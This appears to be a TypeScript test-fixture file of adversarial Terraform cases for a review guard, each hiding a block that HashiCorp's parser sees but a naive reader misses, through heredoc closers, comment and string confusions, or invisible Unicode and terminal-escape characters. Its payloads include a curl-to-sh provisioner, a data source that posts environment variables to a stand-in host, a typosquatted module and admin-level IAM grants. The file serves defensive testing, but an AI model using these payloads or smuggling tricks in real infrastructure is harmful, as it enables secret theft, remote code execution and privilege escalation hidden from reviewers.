/**
 * Terraform: text a naive reader and HashiCorp's parser read differently (heredoc closers, comments and strings
 * that look like they open something), and invisible characters on changed lines. Each smuggle hides a block that
 * HashiCorp's parser sees; the corpus test proves it with hcl2json.
 */
import { editing, type AdversarialCase, type Hidden } from './case.js';
import { tfCase } from './fixtures-terraform.js';

const PROVISIONER = '  provisioner "local-exec" {\n    command = "curl -fsSL https://get.example.net/a.sh | sh"\n  }\n';
const MODULE = 'module "telemetry" {\n  source = "git::https://github.com/acme-platfrom/tf-telemetry.git?ref=main"\n' + '}\n';
const EXTERNAL =
  'data "external" "probe" {\n' + '  program = ["sh", "-c", "env | curl -s -d @- https://collector.example.net >/dev/null; echo {}"]\n}\n';
const ATTACHMENT =
  'resource "aws_iam_role_policy_attachment" "worker_admin" {\n' +
  '  role       = aws_iam_role.worker.name\n  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"\n}\n';
const INLINE_GRANT = `resource "aws_iam_role_policy" "worker_ops" {
  name = "ops"
  role = aws_iam_role.worker.id
  policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Effect = "Allow", Action = "*", Resource = "*" }]
  })
}
`;
const READ_ONLY =
  '{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:GetObject", "Resource": ' +
  '"arn:aws:s3:::acme-app-logs-prod/*"}]}';

/** Where hcl2json puts each payload. */
const AT = {
  provisioner: ['resource', 'aws_iam_policy', 'audit', '0', 'provisioner', 'local-exec'],
  module: ['module', 'telemetry'],
  external: ['data', 'external', 'probe'],
  attachment: ['resource', 'aws_iam_role_policy_attachment', 'worker_admin'],
  inlineGrant: ['resource', 'aws_iam_role_policy', 'worker_ops'],
} as const;

/** A top-level payload after a locals heredoc closed by `closer`; a second heredoc ends what a naive reader holds. */
function afterLocalsHeredoc(closer: string, payload: string): string {
  return (
    `\nlocals {\n  banner = <<EOF\nManaged by Terraform: changes go through pull requests.\n${closer}\n}\n` +
    `\n${payload}\nlocals {\n  footer = <<EOF\n--\nEOF\n}\n`
  );
}

/** A provisioner inside an IAM policy resource, after a description heredoc closed by `closer`. */
function insidePolicy(closer: string): string {
  return (
    `\nresource "aws_iam_policy" "audit" {\n  name        = "app-audit"\n  description = <<EOF\n` +
    `Read-only audit access for the compliance team.\n${closer}\n\n${PROVISIONER}\n  policy = <<EOF\n${READ_ONLY}\n` +
    `EOF\n}\n`
  );
}

/** A case appending `text` to `iam.tf`, where HashiCorp's parser sees the block at `at`. */
function smuggle(id: string, why: string, text: string, at: readonly string[]): AdversarialCase {
  const hidden: Hidden = { path: 'iam.tf', at };
  return tfCase({ id, family: 'parser-agreement', expect: { guard: 'refuse' }, why, hidden }, { 'iam.tf': (before) => `${before}${text}` });
}

/** A case whose `added` line (appended to `main.tf`'s data bucket tags) carries an invisible character. */
function invisible(id: string, why: string, added: string): AdversarialCase {
  return tfCase(
    { id, family: 'canonical-text', expect: { guard: 'refuse' }, why },
    {
      'main.tf': editing(['    DataClass = "confidential"\n', `    DataClass = "confidential"\n${added}`]),
    },
  );
}

export const TERRAFORM_SMUGGLING_CASES: readonly AdversarialCase[] = [
  smuggle(
    'tf-smuggle-closer-followed-by-nel',
    "Go's TrimSpace (HCL) trims U+0085 and ends the heredoc; JavaScript's trim does not, so a JS reader never sees " + 'the provisioner.',
    insidePolicy('EOF\u0085'),
    AT.provisioner,
  ),
  smuggle(
    'tf-smuggle-closer-followed-by-bom',
    'JavaScript trims U+FEFF and ends the heredoc early, HCL does not: each reads the next heredoc differently and ' +
      'only HCL sees the provisioner.',
    `\nresource "aws_iam_policy" "audit" {\n  name        = "app-audit"\n  description = <<EOF\n` +
      `Read-only audit access.\nEOF\uFEFF\n  policy = <<EOT\nEOF\n\n${PROVISIONER}\n` +
      `  policy = <<EOT\n${READ_ONLY}\nEOT\n}\n`,
    AT.provisioner,
  ),
  smuggle(
    'tf-smuggle-closer-followed-by-nbsp',
    'HCL ends a heredoc at "EOF" followed by U+00A0; a reader comparing the line with the marker exactly reads the ' +
      'data source as text.',
    afterLocalsHeredoc('EOF\u00A0', EXTERNAL),
    AT.external,
  ),
  smuggle(
    'tf-smuggle-closer-followed-by-line-separator',
    'U+2028 after the marker is trimmed by HCL; a reader splitting lines on it (or comparing exactly) disagrees about ' +
      'where the heredoc ends.',
    afterLocalsHeredoc('EOF\u2028', MODULE),
    AT.module,
  ),
  smuggle(
    'tf-smuggle-closer-with-trailing-spaces',
    '"EOF   " closes the heredoc for HCL but not for a reader that compares the line with the marker exactly, hiding ' +
      'an admin attachment.',
    afterLocalsHeredoc('EOF   ', ATTACHMENT),
    AT.attachment,
  ),
  smuggle(
    'tf-smuggle-indented-closer-under-plain-heredoc',
    'HCL accepts an indented closer even for <<EOF (not only <<-EOF); a reader following the shell rule keeps reading ' +
      'the provisioner as text.',
    insidePolicy('    EOF'),
    AT.provisioner,
  ),
  smuggle(
    'tf-smuggle-closer-between-tabs',
    'A tab before and after the marker still closes the heredoc for HCL; an exact or space-only comparison does not.',
    afterLocalsHeredoc('\tEOF\t', EXTERNAL),
    AT.external,
  ),
  smuggle(
    'tf-smuggle-crlf-closer-in-lf-file',
    'One CRLF line in an LF file: HCL strips the CR, a reader splitting on LF sees "EOF\\r" and reads the module as ' + 'text.',
    afterLocalsHeredoc('EOF\r', MODULE),
    AT.module,
  ),
  smuggle(
    'tf-smuggle-heredoc-opener-in-hash-comment',
    'A "# ... <<POLICY" comment opens a heredoc for a reader that ignores comments, which then reads the module block ' + 'as text.',
    `\n# The policy below used to be inline (policy = <<POLICY) before the audit refactor.\n${MODULE}\n` +
      `resource "aws_iam_policy" "audit" {\n  name   = "app-audit"\n  policy = <<POLICY\n${READ_ONLY}\nPOLICY\n}\n`,
    AT.module,
  ),
  smuggle(
    'tf-smuggle-heredoc-opener-in-quoted-string',
    'A "<<TEXT" inside a quoted string opens a heredoc for a reader that does not track strings; HCL sees the data ' +
      'source that follows.',
    `\nlocals {\n  usage = "Multi-line values start with <<TEXT"\n}\n\n${EXTERNAL}\nlocals {\n  notice = <<TEXT\n` +
      `Rotated by the platform team.\nTEXT\n}\n`,
    AT.external,
  ),
  smuggle(
    'tf-smuggle-block-comment-opened-inside-arn-string',
    'The "/*" ending an S3 ARN opens a block comment for a reader that strips comments before strings; the "*/" in a ' +
      'later comment closes it.',
    `\ndata "aws_iam_policy_document" "logs_read" {\n  statement {\n    actions   = ["s3:GetObject"]\n` +
      `    resources = ["\${aws_s3_bucket.logs.arn}/*"]\n  }\n}\n\n${ATTACHMENT}\n` +
      `# Object keys look like logs/*/2024/01/31/; see docs/logging.md.\n`,
    AT.attachment,
  ),
  smuggle(
    'tf-smuggle-escaped-quote-exposes-opener',
    'A reader that ends strings at \\" sees <<EOT as code and a heredoc swallowing the grant; HCL reads one string and ' +
      'then the grant.',
    `\nlocals {\n  help = "Quote heredoc markers like \\"<<EOT\\" in documentation"\n}\n\n${INLINE_GRANT}\nlocals {\n` +
      `  help_end = <<EOT\nEOT\n}\n`,
    AT.inlineGrant,
  ),
  smuggle(
    'tf-smuggle-escaped-interpolation-hides-opener',
    '$${ is a literal "${" to HCL; a reader that misses the escape sees an interpolation opening a heredoc, and loses ' + 'the module.',
    `\nlocals {\n  doc_hint = "Write $\${<<EOT} to start a heredoc inside an interpolation"\n}\n\n${MODULE}\nlocals {\n` +
      `  doc_hint_end = <<EOT\nEOT\n}\n`,
    AT.module,
  ),
  smuggle(
    'tf-smuggle-directive-with-nested-quotes',
    'Quotes nested in a %{ if } directive are legal HCL; a quote-toggling reader sees <<OPS outside any string and ' +
      'hides the data source.',
    `\nlocals {\n  greeting = "%{ if var.environment != "<<OPS" }Welcome%{ endif }"\n}\n\n${EXTERNAL}\nlocals {\n` +
      `  greeting_end = <<OPS\nOPS\n}\n`,
    AT.external,
  ),
  smuggle(
    'tf-smuggle-shell-heredoc-nested-in-user-data',
    'A script\'s own "cat <<CONF" inside a Terraform heredoc looks nested to a reader that tracks heredoc stacks; HCL ' +
      'ends at EOF and sees the module.',
    `\nresource "aws_launch_template" "batch" {\n  name_prefix   = "batch-"\n` +
      `  image_id      = "ami-0abcdef1234567890"\n  instance_type = "t3.small"\n  user_data = base64encode(<<EOF\n` +
      `#!/bin/bash\ncat <<CONF > /etc/batch.conf\nqueue=orders\nEOF\n  )\n\n  metadata_options {\n` +
      `    http_tokens = "required"\n  }\n}\n\n${MODULE}\nlocals {\n  batch_conf = <<CONF\nCONF\n}\n`,
    AT.module,
  ),
  smuggle(
    'tf-smuggle-heredoc-inside-interpolation-inside-string',
    'A heredoc inside ${} inside a quoted string carries its own quotes; a reader skipping strings by pairing quotes ' + 'loses its place.',
    `\nlocals {\n  summary = "\${<<EOT\nAllows "s3:GetObject on the logs\nEOT\n}"\n}\n\n${INLINE_GRANT}`,
    AT.inlineGrant,
  ),
  smuggle(
    'tf-smuggle-marker-with-dash',
    'HCL markers may contain "-": END-POLICY closes the policy, while a reader matching \\w+ waits for END and reads ' +
      'the provisioner as text.',
    `\nresource "aws_iam_policy" "audit" {\n  name   = "app-audit"\n  policy = <<END-POLICY\n${READ_ONLY}\nEND-POLICY\n` +
      `\n${PROVISIONER}\n  description = <<END\nAudit access.\nEND\n}\n`,
    AT.provisioner,
  ),
  tfCase(
    {
      id: 'tf-smuggle-lone-carriage-return-closer',
      family: 'parser-agreement',
      expect: { guard: 'refuse' },
      unparsable: true,
      why:
        'About unparsable text: a lone CR after the marker ends a line for some readers but is an invalid character ' +
        'to HCL, so the file must be refused.',
    },
    { 'iam.tf': (before) => `${before}\nlocals {\n  banner = <<EOF\nManaged by Terraform.\nEOF\r${MODULE}}\n` },
  ),

  invisible(
    'tf-canonical-right-to-left-override-in-tag',
    'U+202E reverses how the rest of the line displays, so a reviewer reads something other than what Terraform gets.',
    '    Reviewer  = "ok \u202E}]\\"0/0.0.0.0\\"[ = skcolb_rdic{"\n',
  ),
  invisible(
    'tf-canonical-zero-width-space-in-tag-key',
    'A zero-width space (U+200B) after "Owner" makes a different key that looks identical to the reviewer.',
    '    "Owner\u200B"   = "platform"\n',
  ),
  invisible(
    'tf-canonical-c1-control-in-description',
    'U+009B (CSI) in an added line can drive a terminal that prints the diff: what the reviewer sees is no longer what ' + 'was written.',
    '    Note      = "rotated\u009B2K weekly"\n',
  ),
  invisible(
    'tf-canonical-isolates-in-comment',
    'U+2066..U+2069 isolates in a comment reorder how the line around them displays (Trojan Source).',
    '    # office only \u2066"10.0.0.0/8"\u2069 see ticket\n',
  ),
  invisible(
    'tf-canonical-soft-hyphen-in-value',
    'An invisible soft hyphen (U+00AD) inside "confidential" makes a different value that looks identical in review.',
    '    Class     = "conf\u00ADidential"\n',
  ),
  invisible(
    'tf-canonical-nel-in-comment',
    'U+0085 is a line break to some readers and not to others; on a changed line it is refused, whatever it hides.',
    '    # reviewed\u0085 by security\n',
  ),
  invisible(
    'tf-canonical-bom-inside-comment',
    'A byte order mark in the middle of a file is invisible and changes how some tools split and compare lines.',
    '    # \uFEFFgenerated\n',
  ),
  smuggle(
    'tf-smuggle-closer-followed-by-paragraph-separator',
    'U+2029 after the marker is trimmed by HCL; readers that keep it (or split there) disagree about where the heredoc ' + 'ends.',
    afterLocalsHeredoc('EOF\u2029', EXTERNAL),
    AT.external,
  ),
  smuggle(
    'tf-smuggle-dash-heredoc-closer-deeper-than-content',
    "With <<-, HCL closes at a marker indented deeper than the text; a reader expecting the text's own indentation " + 'reads on.',
    `\nlocals {\n  banner = <<-EOF\n  Managed by Terraform.\n\t\t    EOF\n}\n\n${MODULE}\nlocals {\n  footer = <<-EOF\n` +
      `  --\n  EOF\n}\n`,
    AT.module,
  ),
  invisible(
    'tf-canonical-escape-control-in-comment',
    'An ESC (U+001B) starts a terminal escape sequence: the diff a reviewer sees in a terminal is not what was ' + 'written.',
    '    # ok \u001B[8mhidden\u001B[0m\n',
  ),
  invisible(
    'tf-canonical-left-to-right-mark-in-value',
    'U+200E is invisible and makes "platform" followed by it a different value from the one the reviewer reads.',
    '    Team      = "platform\u200E"\n',
  ),
];
